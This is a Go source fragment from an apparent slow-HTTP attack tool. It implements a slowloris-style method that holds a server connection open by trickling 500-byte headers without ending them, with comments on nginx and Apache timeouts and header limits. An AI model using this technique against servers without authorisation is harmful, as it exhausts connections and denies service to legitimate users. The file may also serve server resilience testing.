package attackers

import "strings"

// httpHeaders parks a connection inside its headers.
//
//	client                          server
//	  |-- GET / HTTP/1.1 ------------>|
//	  |-- Host: a.test -------------->|
//	  |-- X-Hold:  ------------------>|  waits for the empty line
//	  |... trickle: more headers .....|
//
// Headers end with an empty line (RFC 9112 section 5). nginx bounds the wait by
// client_header_timeout, Apache by RequestReadTimeout header=.
func httpHeaders() implementation {
	return implementation{reach: func(c *client) error {
		if err := c.secure(); err != nil {
			return err
		}
		const name = "X-Hold: "
		line := strings.Repeat("a", headerLine) + "\r\n" + name
		c.trickle = tricklePattern(c.rw(), line, c.stage.TrickleBytes)
		head := requestHead(c.hold.Request, "GET", c.hold.Request.Path, c.hold.Address)
		return c.send("send the beginning of the headers", strings.TrimSuffix(head, "\r\n")+name)
	}}
}

// headerLine is how long each trickled header is: few enough headers for Apache's
// LimitRequestFields of 100, short enough ones for every server's line limit.
const headerLine = 500
